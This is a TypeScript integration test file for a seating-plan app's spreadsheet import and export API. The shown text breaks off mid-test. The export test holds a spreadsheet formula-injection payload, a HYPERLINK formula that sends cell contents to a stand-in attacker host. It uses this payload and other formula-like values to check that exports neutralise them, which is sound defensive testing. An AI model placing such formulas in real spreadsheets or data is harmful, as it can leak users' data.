import { readFileSync } from 'node:fs';
import path from 'node:path';
import { demoPlanCommands, guestLabel, type Command, type PlanState } from '@seatfold/domain';
import type { EventStore } from '@seatfold/store';
import { refuseEventsOf } from '@seatfold/store/testing';
import { PROTOCOL_VERSION, type BatchInfo, type CommandReply, type JoinReply } from '@seatfold/sync';
import ExcelJS from 'exceljs';
import type { Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPlan } from './plans.ts';
import { ask, backends, connect, guestCookie, startApp, type RunningApp } from './testing.ts';
import { binaryWithoutNul } from './upload-fixtures.ts';

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

// Fixtures were written by LibreOffice and Python (fixtures/make-fixtures.ts), not by exceljs.
const fixture = (name: string) => readFileSync(path.join(import.meta.dirname, '../fixtures', name));
const tokenOf = (p: string) => p.replace(/^\/p\//, '');

interface UploadReply {
  uploadId: string;
  fileName: string;
  fileHash: string;
  kind: string;
  sheets: {
    name: string;
    headers: string[];
    rowCount: number;
    guess: { guests: (string | null)[]; draw: (string | null)[] };
    suggestedKind: string;
  }[];
  suggestedSheet: string;
}
interface Preview {
  counts: Record<string, number>;
  outcome: string;
  rows: {
    rowNumber: number;
    status: string;
    name?: string;
    table?: string;
    reason?: string | null;
    note?: string;
    changes?: string[];
    warnings?: string[];
  }[];
  newTables?: { names: string[]; capacity: number; create: boolean };
  blocking: string[];
  keptVipOrLocked?: { name: string; why: string }[];
}

for (const backend of backends()) {
  describe(`imports and exports over HTTP (${backend.name})`, () => {
    let store: EventStore;
    let server: RunningApp;
    const sockets: Socket[] = [];

    beforeAll(async () => {
      store = await backend.open();
      server = await startApp(store);
      // A browser's session, as the web page gets one: the batch list names this person.
      user = { cookie: await guestCookie(server.url, 'Jürgen Groß') };
    });
    afterAll(async () => {
      for (const s of sockets) s.disconnect();
      await server?.close();
      await store?.close();
    });

    /** the plan's batches apart from its set-up (which every plan has) */
    const importBatches = async (planId: string) => (await store.listBatches(planId)).filter((b) => b.kind !== 'setup');
    const newPlan = async (name: string, commands?: Command[]) => {
      const links = await createPlan(store, server.app.hub, name, { commands: commands ?? [{ type: 'createPlan', name }] });
      return { ...links, organise: tokenOf(links.organisePath), review: tokenOf(links.reviewPath) };
    };
    const stateOf = async (planId: string): Promise<PlanState> => (await server.app.hub.room(planId)).snapshot();
    const api = (token: string, p: string) => `${server.url}/api/plans/${token}/${p}`;
    let user: Record<string, string> = {};

    async function upload(token: string, data: Buffer | string, name: string): Promise<Response> {
      return fetch(`${api(token, 'uploads')}?name=${encodeURIComponent(name)}`, {
        method: 'POST',
        headers: { 'content-type': 'application/octet-stream', ...user },
        body: typeof data === 'string' ? data : new Uint8Array(data),
      });
    }
    async function uploaded(token: string, data: Buffer | string, name: string): Promise<UploadReply> {
      const res = await upload(token, data, name);
      const body = await res.json();
      expect(res.status, JSON.stringify(body)).toBe(201);
      return body as UploadReply;
    }
    const post = (token: string, uploadId: string, step: 'preview' | 'apply', body: unknown) =>
      fetch(api(token, `uploads/${uploadId}/${step}`), {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...user },
        body: JSON.stringify(body),
      });
    async function preview(token: string, uploadId: string, body: unknown): Promise<Preview> {
      const res = await post(token, uploadId, 'preview', body);
      const json = await res.json();
      expect(res.status, JSON.stringify(json)).toBe(200);
      return json as Preview;
    }
    const organiserSocket = async (token: string, userName = 'Bob') => {
      const s = await connect(server.url);
      sockets.push(s);
      const joined = await ask<JoinReply>(s, 'join', { protocol: PROTOCOL_VERSION, token, clientId: `c-${Math.random()}`, userName, lastVersion: 0 });
      expect(joined.ok).toBe(true);
      return s;
    };

    /** A plan with tables 12 and 13 (the German list seats guests there) and one guest the list does not name. */
    const sommerfest = () =>
      newPlan('Sommerfest', [
        { type: 'createPlan', name: 'Sommerfest' },
        { type: 'addTable', tableId: 't12', name: '12', capacity: 8 },
        { type: 'addTable', tableId: 't13', name: '13', capacity: 8 },
        { type: 'addGuest', guestId: 'keep', name: 'Karl Bleibt', email: 'karl@example.org' },
      ]);

    it('previews the German guest list exactly, applies it as one batch, and a re-import changes nothing', async () => {
      const plan = await sommerfest();
      const up = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'Gäste Sommerfest.xlsx');
      expect(up.sheets.map((s) => [s.name, s.rowCount])).toEqual([
        ['Gäste', 6],
        ['Notizen', 1],
      ]);
      expect(up.fileHash).toMatch(/^[0-9a-f]{64}$/);
      const [sheet] = up.sheets;
      // The header sits under a merged title row; the German headers are recognised.
      expect(sheet!.headers).toEqual(['Vorname', 'Nachname', 'E-Mail', 'Abteilung', 'Tisch', 'VIP']);
      expect(sheet!.guess.guests).toEqual(['firstName', 'lastName', 'email', 'department', 'table', 'vip']);
      expect(sheet!.suggestedKind).toBe('guests');

      const body = { kind: 'guests', sheet: 'Gäste', columns: sheet!.guess.guests };
      const p = await preview(plan.organise, up.uploadId, body);
      expect(p.counts).toEqual({ new: 4, updated: 0, unchanged: 0, rejected: 2, unseated: 0, newTables: 0, commands: 7 });
      expect(p.blocking).toEqual([]);
      expect(p.rows.map((r) => [r.rowNumber, r.status, r.name, r.reason])).toEqual([
        [3, 'new', 'Zoë Ünal', null], // stray spaces trimmed
        [4, 'new', 'José Ñúñez', null],
        [5, 'new', '李 雷', null],
        [6, 'new', 'Åsa Ærø', null],
        [8, 'rejected', 'Doppelt Gast', 'same e-mail as row 3'],
        [9, 'rejected', 'Kaputt Adresse', '“keine-adresse” is not an e-mail address'],
      ]);
      const before = await stateOf(plan.planId);
      expect(before.version).toBeGreaterThan(0);

      const res = await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p.counts });
      const applied = (await res.json()) as { ok: true; version: number; batch: BatchInfo };
      expect(res.status, JSON.stringify(applied)).toBe(200);
      expect(applied.batch).toMatchObject({
        kind: 'guest-import',
        actor: 'Jürgen Groß',
        label: 'Guest import: Gäste Sommerfest.xlsx (4 new, 0 updated, 2 rejected)',
        fileName: 'Gäste Sommerfest.xlsx',
        fileHash: up.fileHash,
        summary: { kind: 'guests', sheet: 'Gäste', key: 'email', counts: p.counts },
        firstVersion: before.version + 1,
        lastVersion: applied.version,
      });
      const after = await stateOf(plan.planId);
      const guests = Object.values(after.guests);
      expect(guests).toHaveLength(5);
      const zoe = guests.find((g) => g.email === 'zoe.unal@example.org')!;
      expect(zoe).toMatchObject({ name: 'Zoë Ünal', department: 'Vertrieb', vip: true, tableId: 't12' });
      // "Tisch 13" and the number 13 both name table 13; the number stored as text seats like the number.
      expect(after.tables.t13!.guestIds.map((id) => after.guests[id]!.name).sort()).toEqual(['Åsa Ærø', '李 雷']);
      // Every event of the import carries the batch id: the store appended them in one statement.
      const events = await store.readStream(plan.planId, before.version);
      expect(events.every((e) => e.meta.batchId === applied.batch.batchId)).toBe(true);

      // The same file again: every row unchanged (merged by e-mail), nothing to apply, no duplicates.
      const again = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'Gäste Sommerfest.xlsx');
      expect(again.fileHash).toBe(up.fileHash);
      const p2 = await preview(plan.organise, again.uploadId, body);
      expect(p2.counts).toEqual({ new: 0, updated: 0, unchanged: 4, rejected: 2, unseated: 0, newTables: 0, commands: 0 });
      const res2 = await post(plan.organise, again.uploadId, 'apply', body);
      expect(res2.status).toBe(422);
      expect(await res2.json()).toMatchObject({ error: expect.stringMatching(/Nothing to apply/) });
      expect(Object.keys((await stateOf(plan.planId)).guests)).toHaveLength(5);
    });

    it('an apply the database cannot store just now is answered 503 with Retry-After, and applied once when sent again', async () => {
      const plan = await sommerfest();
      const up = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'guests.xlsx');
      const body = { kind: 'guests', sheet: 'Gäste', columns: up.sheets[0]!.guess.guests, batchId: `retry-${Date.now()}` };
      const p = await preview(plan.organise, up.uploadId, body);
      // the database refuses this plan's events as a lost connection would (SQLSTATE 08006)
      const restore = await refuseEventsOf(store, plan.planId, '08006');
      let res: Response;
      try {
        res = await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p.counts });
      } finally {
        await restore();
      }
      expect(res.status).toBe(503);
      expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
      const refused = (await res.json()) as { error: string; code: string };
      expect(refused).toMatchObject({
        code: 'Unavailable',
        error: expect.stringMatching(/Apply it again in \d+ seconds?: it is never applied twice\./),
      });
      expect(refused.error).not.toMatch(/sent again automatically/);
      // sent again (as the page does when told to retry): stored once, as one batch
      let again: Response | null = null;
      for (let i = 0; i < 100 && again?.status !== 200; i++) {
        if (again) await new Promise((r) => setTimeout(r, 200));
        again = await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p.counts });
      }
      expect(again!.status).toBe(200);
      expect((await importBatches(plan.planId)).filter((b) => b.batchId === body.batchId)).toHaveLength(1);
    });

    it('refuses to apply when the plan changed since the preview, and applies nothing', async () => {
      const plan = await sommerfest();
      const up = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'guests.xlsx');
      const body = { kind: 'guests', sheet: 'Gäste', columns: up.sheets[0]!.guess.guests };
      const p = await preview(plan.organise, up.uploadId, body);
      // Meanwhile somebody else makes table 12 too small for Zoë.
      const s = await organiserSocket(plan.organise);
      const r = await ask<CommandReply>(s, 'command', { commandId: `shrink-${Date.now()}`, command: { type: 'removeTable', tableId: 't12' } });
      expect(r.status).toBe('accepted');
      const version = (await stateOf(plan.planId)).version;
      const res = await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p.counts });
      expect(res.status).toBe(409);
      expect(await res.json()).toMatchObject({ error: expect.stringMatching(/changed since your preview.*Nothing was applied/) });
      expect((await stateOf(plan.planId)).version).toBe(version);
      // The new preview offers to create table 12 again; declined, row 3 is imported unseated and says why.
      const p2 = await preview(plan.organise, up.uploadId, body);
      expect(p2.rows[0]).toMatchObject({ rowNumber: 3, status: 'new', warnings: [] });
      expect(p2.counts.newTables).toBe(1);
      const p3 = await preview(plan.organise, up.uploadId, { ...body, newTables: { create: false, capacity: 10 } });
      expect(p3.rows[0]).toMatchObject({ rowNumber: 3, status: 'new', warnings: ['table “12” does not exist: imported unseated'] });
    });

    it('refuses to apply when the preview’s rows would now do something else, even with the same counts', async () => {
      const plan = await newPlan('Sommerfest', [
        { type: 'createPlan', name: 'Sommerfest' },
        { type: 'addTable', tableId: 't12', name: '12', capacity: 8 },
        { type: 'addTable', tableId: 't13', name: '13', capacity: 8 },
        { type: 'addTable', tableId: 't14', name: '14', capacity: 8 },
        { type: 'addGuest', guestId: 'zoe', name: 'Zoë Ünal', email: 'zoe.unal@example.org', department: 'Vertrieb', vip: true },
        { type: 'seatGuest', guestId: 'zoe', tableId: 't13' },
      ]);
      const up = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'guests.xlsx');
      const body = { kind: 'guests', sheet: 'Gäste', columns: up.sheets[0]!.guess.guests };
      const p = await preview(plan.organise, up.uploadId, body);
      expect(p.rows[0]).toMatchObject({ rowNumber: 3, status: 'updated', changes: ['table 13 → 12'] });
      // Bob moves Zoë meanwhile: still one guest updated, but the row now moves her away from his table 14.
      const s = await organiserSocket(plan.organise);
      expect(
        await ask<CommandReply>(s, 'command', { commandId: `move-${Date.now()}`, command: { type: 'moveGuest', guestId: 'zoe', tableId: 't14' } }),
      ).toMatchObject({
        status: 'accepted',
      });
      const p2 = await preview(plan.organise, up.uploadId, body);
      expect(p2.counts).toEqual(p.counts);
      expect(p2.rows[0]).toMatchObject({ changes: ['table 14 → 12'] });
      expect(p2.outcome).not.toBe(p.outcome);
      const version = (await stateOf(plan.planId)).version;
      const res = await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p.outcome });
      expect(res.status).toBe(409);
      expect(await res.json()).toMatchObject({ code: 'PreviewOutdated' });
      expect((await stateOf(plan.planId)).version).toBe(version);
      // Applied from the preview that shows Bob's move, it goes through.
      expect((await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p2.outcome })).status).toBe(200);
      expect((await stateOf(plan.planId)).guests.zoe!.tableId).toBe('t12');
    });

    it('the seed incident: the demo draw keeps the 4 VIP tables, says so, and moves tables 1–12', async () => {
      const plan = await newPlan('Demo', demoPlanCommands());
      const before = await stateOf(plan.planId);
      const up = await uploaded(plan.organise, fixture('demo-draw.xlsx'), 'Auslosung.xlsx');
      const [sheet] = up.sheets;
      expect(sheet!.suggestedKind).toBe('draw');
      expect(sheet!.guess.draw).toEqual(['table', 'room', 'physical']);
      const body = { kind: 'draw', sheet: sheet!.name, columns: sheet!.guess.draw };
      const p = await preview(plan.organise, up.uploadId, body);
      expect(p.blocking).toEqual([]);
      expect(p.keptVipOrLocked!.map((k) => [k.name, k.why])).toEqual([
        ['VIP 1', 'VIP, locked'],
        ['VIP 2', 'VIP, locked'],
        ['VIP 3', 'VIP, locked'],
        ['VIP 4', 'VIP, locked'],
      ]);
      expect(p.counts).toMatchObject({ kept: 4, place: 12, error: 0, keptVipOrLocked: 4 });
      expect(p.rows.filter((r) => r.status === 'kept').map((r) => r.note)).toEqual(Array(4).fill('VIP, locked: left as it is'));

      const res = await post(plan.organise, up.uploadId, 'apply', { ...body, expect: p.counts });
      const applied = (await res.json()) as { batch: BatchInfo };
      expect(res.status).toBe(200);
      expect(applied.batch).toMatchObject({
        kind: 'table-draw',
        label: 'Table draw: Auslosung.xlsx (12 placed, VIP/locked kept: 4)',
        summary: { kind: 'draw', keptVipOrLocked: expect.any(Array) },
      });
      const after = await stateOf(plan.planId);
      for (let i = 1; i <= 4; i++) expect(after.tables[`t-vip${i}`]!.physicalTableId).toBe(before.tables[`t-vip${i}`]!.physicalTableId);
      const ids = Array.from({ length: 12 }, (_, i) => `t-${String(i + 1).padStart(3, '0')}`);
      ids.forEach((id, i) => expect(after.tables[id]!.physicalTableId).toBe(before.tables[ids[(i + 1) % 12]!]!.physicalTableId));
    });

    it('blocks a draw with unknown and double-drawn tables until those rows are excluded', async () => {
      const plan = await newPlan('Demo', demoPlanCommands());
      const before = await stateOf(plan.planId);
      const b01 = before.physicalTables[before.tables['t-001']!.physicalTableId!]!.label;
      const b02 = before.physicalTables[before.tables['t-002']!.physicalTableId!]!.label;
      const csv = `Table;Physical table\n1;${b02}\n2;${b01}\n3;${b01}\n999;B-10\nVIP 1;${b02}\n`;
      const up = await uploaded(plan.organise, csv, 'draw.csv');
      const body = { kind: 'draw', columns: up.sheets[0]!.guess.draw };
      const p = await preview(plan.organise, up.uploadId, body);
      expect(p.rows.map((r) => [r.rowNumber, r.status])).toEqual([
        [2, 'place'],
        [3, 'place'],
        [4, 'error'],
        [5, 'error'],
        [6, 'kept'],
      ]);
      expect(p.rows[2]!.note).toMatch(/drawn twice \(also in row 3\)/);
      expect(p.rows[3]!.note).toBe('table “999” does not exist');
      expect(p.blocking).toEqual(['2 rows with errors: fix the file or exclude them.']);
      const refused = await post(plan.organise, up.uploadId, 'apply', body);
      expect(refused.status).toBe(422);
      expect(await refused.json()).toMatchObject({ error: expect.stringMatching(/Nothing was applied: 2 rows with errors/) });
      expect((await stateOf(plan.planId)).version).toBe(before.version);

      const ok = await preview(plan.organise, up.uploadId, { ...body, exclude: [4, 5] });
      expect(ok.blocking).toEqual([]);
      const res = await post(plan.organise, up.uploadId, 'apply', { ...body, exclude: [4, 5], expect: ok.counts });
      expect(res.status).toBe(200);
      const after = await stateOf(plan.planId);
      expect(after.tables['t-001']!.physicalTableId).toBe(before.tables['t-002']!.physicalTableId);
      expect(after.tables['t-vip1']!.physicalTableId).toBe(before.tables['t-vip1']!.physicalTableId);
    });

    it('reverts the faulty import as its own batch, keeping another organiser’s later moves', async () => {
      const plan = await newPlan('Demo', demoPlanCommands());
      const before = await stateOf(plan.planId);
      const up = await uploaded(plan.organise, fixture('demo-faulty-import.xlsx'), 'faulty.xlsx');
      const body = { kind: 'guests', sheet: up.sheets[0]!.name, columns: up.sheets[0]!.guess.guests };
      const p = await preview(plan.organise, up.uploadId, body);
      expect(p.counts).toMatchObject({ updated: 8, new: 0, rejected: 0 });
      // The file's names and e-mails are the demo's (fixtures/make-fixtures.ts): only departments and tables change.
      expect(p.rows.flatMap((r) => r.changes ?? []).filter((c) => !/^(department|table) /.test(c))).toEqual([]);
      const res = await post(plan.organise, up.uploadId, 'apply', body);
      const { batch } = (await res.json()) as { batch: BatchInfo };
      const moved = Object.values((await stateOf(plan.planId)).guests).filter((g) => g.department === 'UNKNOWN');
      expect(moved).toHaveLength(8);

      const bob = await organiserSocket(plan.organise, 'Bob');
      const target = Object.values(before.tables).find((t) => !t.locked && !t.vip && t.guestIds.length < t.capacity - 2 && t.id !== 't-140')!;
      expect(
        (
          await ask<CommandReply>(bob, 'command', {
            commandId: `b1-${Date.now()}`,
            command: { type: 'moveGuest', guestId: moved[0]!.id, tableId: target.id },
          })
        ).status,
      ).toBe('accepted');
      const revert = await ask<CommandReply>(bob, 'revert', {
        commandId: `r-${Date.now()}`,
        batchId: `revert-${Date.now()}`,
        targetBatchId: batch.batchId,
      });
      expect(revert.status, JSON.stringify(revert)).toBe('accepted');
      const after = await stateOf(plan.planId);
      for (const g of moved.slice(1))
        expect(after.guests[g.id]).toMatchObject({ department: before.guests[g.id]!.department, tableId: before.guests[g.id]!.tableId });
      // Bob's later move stays (the import's move of that guest is reported as a conflict); the import's other change
      // to that guest, the department, is a different fact and is restored.
      expect(after.guests[moved[0]!.id]!.tableId).toBe(target.id);
      expect(after.guests[moved[0]!.id]!.department).toBe(before.guests[moved[0]!.id]!.department);
      const detail = (revert as Extract<CommandReply, { status: 'accepted' }>).detail!;
      expect(detail.restored).toBe(15);
      // What it does, in words (preview and stored batch alike): departments back, seven guests moved back.
      expect(detail.effects).toEqual(['change 8 guests', 'move 7 guests']);
      expect(detail.conflicts.map((c) => [c.laterActor, c.sentence])).toEqual([
        // the guest as the plan tells them apart (the demo has namesakes: then with their e-mail)
        ['Bob', expect.stringMatching(new RegExp(`moved ${escape(guestLabel(after.guests, moved[0]!.id)!)} from table .* to table 140`))],
      ]);
      const batches = await store.listBatches(plan.planId);
      expect(batches.at(-1)).toMatchObject({ kind: 'revert', reverts: batch.batchId, actor: 'Bob', label: `Revert of “${batch.label}”` });
      expect(batches.at(-1)!.summary).toMatchObject({ restored: 15, effects: ['changed 8 guests', 'moved 7 guests'] });
    });

    describe('bad input: a clear 4xx, the server stays up, nothing is applied', () => {
      const fiftyThousand = ['Name,E-mail', ...Array.from({ length: 50_000 }, (_, i) => `Guest ${i},guest${i}@example.org`)].join('\n');
      it.each([
        ['a wrong file type', () => Buffer.from('\x89PNG\r\n\x1a\n'), 'photo.png', 415, /not a spreadsheet.*\.xlsx or \.csv/],
        ['an OpenDocument file', () => Buffer.from('PK\x03\x04'), 'list.ods', 415, /Save it as \.xlsx/],
        ['a renamed PDF', () => fixture('renamed.xlsx'), 'renamed.xlsx', 422, /PDF, not a spreadsheet/],
        ['a binary file named .csv', () => Buffer.from([1, 2, 0, 3]), 'data.csv', 422, /not text and not an Excel workbook/],
        ['binary data without NUL bytes named .csv', () => Buffer.from(binaryWithoutNul(4000)), 'data.csv', 422, /not text .* upload that\./],
        ['binary data behind a UTF-16 byte order mark', () => Buffer.from(binaryWithoutNul(4000, [0xff, 0xfe])), 'data.csv', 422, /not text/],
        ['a corrupt .xlsx', () => fixture('corrupt.xlsx'), 'corrupt.xlsx', 422, /damaged/],
        ['a zip bomb', () => fixture('zip-bomb.xlsx'), 'bomb.xlsx', 422, /zip bomb/],
        ['an old .xls', () => fixture('guests-de.xls'), 'guests-de.xls', 422, /old Excel \(\.xls\)/],
        [
          'an empty sheet',
          () => fixture('empty.xlsx'),
          'empty.xlsx',
          422,
          /^The sheet is empty: there is nothing to import\. Fill it with a header row, then a row each/,
        ],
        ['an empty file', () => Buffer.alloc(0), 'empty.csv', 422, /^The file is empty\. Save the list from Excel as \.xlsx or \.csv/],
        ['50,000 rows', () => Buffer.from(fiftyThousand), 'many.csv', 422, /more than 20,000 rows/],
        ['more than 10 MB', () => Buffer.alloc(10 * 1024 * 1024 + 1, 65), 'big.csv', 413, /limited to 10\.0 MB/],
      ] as const)('%s', async (_what, data, name, status, pattern) => {
        const plan = await sommerfest();
        const version = (await stateOf(plan.planId)).version;
        const res = await upload(plan.organise, data(), name);
        expect(res.status).toBe(status);
        expect(await res.json()).toEqual({ error: expect.stringMatching(pattern) });
        expect((await fetch(`${server.url}/api/health`)).status).toBe(200);
        expect((await stateOf(plan.planId)).version).toBe(version);
        expect(await importBatches(plan.planId)).toEqual([]);
      });

      it('refuses an oversized body sent without content-length while it streams', async () => {
        const plan = await sommerfest();
        const chunk = new Uint8Array(1024 * 1024).fill(65);
        let sent = 0;
        const body = new ReadableStream<Uint8Array>({
          pull(c) {
            if (sent++ < 12) c.enqueue(chunk);
            else c.close();
          },
        });
        const res = await fetch(`${api(plan.organise, 'uploads')}?name=big.csv`, {
          method: 'POST',
          headers: { 'content-type': 'application/octet-stream', ...user },
          body,
          duplex: 'half',
        });
        expect(res.status).toBe(413);
        expect(await res.json()).toEqual({ error: expect.stringMatching(/limited to 10\.0 MB/) });
      });

      it('answers bad preview and apply requests with the reason', async () => {
        const plan = await sommerfest();
        const up = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'g.xlsx');
        const cases: [unknown, number, RegExp][] = [
          [{ kind: 'seats', sheet: 'Gäste' }, 400, /kind must be/],
          [{ kind: 'guests', sheet: 'Nope' }, 400, /no sheet "Nope"; it has “Gäste”, “Notizen”/],
          [{ kind: 'guests', sheet: 'Gäste', columns: ['shoeSize'] }, 400, /not a field of a guest/],
          [{ kind: 'guests', sheet: 'Gäste', columns: ['email', 'email'] }, 400, /Two columns are mapped to “email”/],
          [{ kind: 'guests', sheet: 'Gäste', columns: [null, null, 'email'] }, 200, /./],
        ];
        for (const [body, status, pattern] of cases) {
          const res = await post(plan.organise, up.uploadId, 'preview', body);
          expect(res.status, JSON.stringify(body)).toBe(status);
          const json = (await res.json()) as { error?: string; blocking?: string[] };
          if (status !== 200) expect(json.error).toMatch(pattern);
          else expect(json.blocking![0]).toMatch(/Choose which column holds the guest’s name/);
        }
        const blocked = await post(plan.organise, up.uploadId, 'apply', { kind: 'guests', sheet: 'Gäste', columns: [null, null, 'email'] });
        expect(blocked.status).toBe(422);
        expect(await blocked.json()).toMatchObject({ error: expect.stringMatching(/Nothing was applied: Choose which column/) });
        const unknown = await post(plan.organise, '00000000-0000-0000-0000-000000000000', 'preview', { kind: 'guests' });
        expect(unknown.status).toBe(404);
        expect(await unknown.json()).toEqual({ error: expect.stringMatching(/expired/) });
        // An upload belongs to its plan.
        const other = await sommerfest();
        expect((await post(other.organise, up.uploadId, 'preview', { kind: 'guests', sheet: 'Gäste' })).status).toBe(404);
        expect((await upload('no-such-token', 'a', 'a.csv')).status).toBe(404);
        expect(await importBatches(plan.planId)).toEqual([]);
      });
    });

    it('a review link cannot upload or apply, but may export', async () => {
      const plan = await sommerfest();
      const res = await upload(plan.review, fixture('guests-de.xlsx'), 'g.xlsx');
      expect(res.status).toBe(403);
      expect(await res.json()).toEqual({ error: expect.stringMatching(/review link/) });
      const up = await uploaded(plan.organise, fixture('guests-de.xlsx'), 'g.xlsx');
      for (const step of ['preview', 'apply'] as const) {
        const r = await post(plan.review, up.uploadId, step, { kind: 'guests', sheet: 'Gäste' });
        expect(r.status).toBe(403);
      }
      expect(await importBatches(plan.planId)).toEqual([]);
      expect((await fetch(api(plan.review, 'export.csv'), { headers: user })).status).toBe(200);
      expect((await fetch(api(plan.review, 'export.xlsx'), { headers: user })).status).toBe(200);
    });

    it('exports .xlsx (a sheet per room + all guests) and .csv, with formula-like cells neutralised', async () => {
      const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
      const plan = await newPlan('Gala: “Sommer” 2026', [
        { type: 'createPlan', name: 'Gala: “Sommer” 2026' },
        { type: 'addRoom', roomId: 'hall', name: 'Hall' },
        { type: 'addRoom', roomId: 'garden', name: 'Garden' },
        { type: 'addPhysicalTable', physicalTableId: 'h1', roomId: 'hall', label: 'H-1', capacity: 8 },
        { type: 'addPhysicalTable', physicalTableId: 'g1', roomId: 'garden', label: 'G-1', capacity: 8 },
        { type: 'addTable', tableId: 't1', name: '1', capacity: 8 },
        { type: 'addTable', tableId: 't2', name: '2', capacity: 8 },
        { type: 'mapTable', tableId: 't1', physicalTableId: 'h1' },
        { type: 'addGuest', guestId: 'evil', name: evil, email: 'evil@example.org', department: '+1 dept', notes: '@SUM(A1)' },
        { type: 'addGuest', guestId: 'tab', name: '\tTabbed', dietary: '-vegan' },
        { type: 'addGuest', guestId: 'zoe', name: 'Zoë Ünal', department: 'Vertrieb' },
        { type: 'seatGuest', guestId: 'evil', tableId: 't1' },
        { type: 'seatGuest', guestId: 'zoe', tableId: 't1' },
      ]);
      const res = await fetch(api(plan.review, 'export.xlsx'), { headers: user });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="Gala _Sommer_ 2026 _ seating.xlsx"; filename*=UTF-8''${encodeURIComponent('Gala “Sommer” 2026 – seating.xlsx')}`,
      );
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(await res.arrayBuffer());
      expect(wb.worksheets.map((w) => w.name)).toEqual(['Hall', 'Garden', 'Not placed', 'All guests', 'Catering']);
      const rows = (name: string) => {
        const out: string[][] = [];
        // Cell values in these sheets are strings, numbers or dates (never objects).
        const text = (v: unknown): string =>
          v === undefined || v === null
            ? ''
            : typeof v === 'string'
              ? v
              : typeof v === 'number' || typeof v === 'boolean'
                ? String(v)
                : v instanceof Date
                  ? v.toString()
                  : JSON.stringify(v);
        wb.getWorksheet(name)!.eachRow((r) => out.push((r.values as unknown[]).slice(1).map(text)));
        return out;
      };
      expect(rows('Hall')[0]).toEqual(['Physical table', 'Table', 'Seats', 'Seat', 'Guest', 'Department', 'Dietary needs', 'VIP', 'Notes']);
      expect(rows('Hall').slice(1)).toEqual([
        ['H-1', '1', '2/8', '1', evil, '+1 dept', '', '', '@SUM(A1)'], // string cells: never formulas, no prefix
        ['H-1', '1', '2/8', '2', 'Zoë Ünal', 'Vertrieb', '', '', ''],
      ]);
      expect(rows('Garden').slice(1)).toEqual([['G-1', '', '', '', '(free)', '', '', '', '']]);
      expect(rows('Not placed').slice(1)).toEqual([['', '2', '0/8', '', '(nobody seated)', '', '', '', '']]);
      const all = rows('All guests');
      expect(all[0]).toEqual([
        'Guest number',
        'Name',
        'E-mail',
        'Party',
        'Department',
        'Dietary needs',
        'Accessibility needs',
        'VIP',
        'Notes',
        'Table',
        'Physical table',
        'Room',
      ]);
      expect(all.slice(1).map((r) => [r[1], r[9], r[10], r[11]])).toEqual([
        ['\tTabbed', '', '', ''],
        [evil, '1', 'H-1', 'Hall'],
        ['Zoë Ünal', '1', 'H-1', 'Hall'],
      ]);
      // No cell of the workbook is a formula.
      for (const ws of wb.worksheets) ws.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));

      const csv = await fetch(api(plan.organise, 'export.csv'), { headers: user });
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const text = await csv.text();
      const lines = text.replace(/^\uFEFF/, '').split('\r\n');
      expect(lines[0]).toBe('Guest number,Name,E-mail,Party,Department,Dietary needs,Accessibility needs,VIP,Notes,Table,Physical table,Room');
      expect(lines[2]).toBe(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",evil@example.org,,'+1 dept,,,,'@SUM(A1),1,H-1,Hall`);
      expect(lines[1]).toBe(",'\tTabbed,,,,'-vegan,,,,,,");
      expect(lines[3]).toBe(',Zoë Ünal,,,Vertrieb,,,,,1,H-1,Hall');
      expect(lines.slice(4)).toEqual(['']);
      expect(text.split('\r\n').every((l) => !/^[=+\-@]|,[=+\-@]/.test(l))).toBe(true);

      // The semicolon flavour for German Excel: same rows, BOM bytes first, its own file name.
      const excel = await fetch(api(plan.review, 'export-excel.csv'), { headers: user });
      expect(excel.status).toBe(200);
      expect(excel.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(excel.headers.get('content-disposition')).toContain('filename="Gala _Sommer_ 2026 _ seating (Excel).csv"');
      const raw = Buffer.from(await excel.arrayBuffer());
      expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const semi = raw.subarray(3).toString('utf8').split('\r\n');
      expect(semi[0]).toBe('Guest number;Name;E-mail;Party;Department;Dietary needs;Accessibility needs;VIP;Notes;Table;Physical table;Room');
      expect(semi[2]).toBe(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";evil@example.org;;'+1 dept;;;;'@SUM(A1);1;H-1;Hall`);
      expect(semi[3]).toBe(';Zoë Ünal;;;Vertrieb;;;;;1;H-1;Hall');
    });

    it("charges a preview to the plan's decide time: while it is used up another preview is refused, retryably", async () => {
      // An app of its own whose plans may spend 1 ms of the thread, refilled at 1 µs a second: the first preview
      // (2,000 rows, well over 1 ms of planning) is answered and spends it; the next is refused, whatever the machine.
      const tight = await startApp(store, { limits: { decideMsPerPlan: { perSecond: 0.001, burst: 1 } } });
      try {
        // Set up through the other app: deciding the set-up would be charged to the plan here too, and on a loaded
        // machine it alone takes more than the 1 ms (the first preview was then refused, waiting 4,200 s).
        const links = await createPlan(store, server.app.hub, 'Busy', { commands: [{ type: 'createPlan', name: 'Busy' }] });
        const token = tokenOf(links.organisePath);
        const rows = Array.from({ length: 2_000 }, (_, i) => `Guest ${i},guest${i}@example.org`);
        const up = await fetch(`${tight.url}/api/plans/${token}/uploads?name=many.csv`, {
          method: 'POST',
          headers: { 'content-type': 'application/octet-stream', ...user },
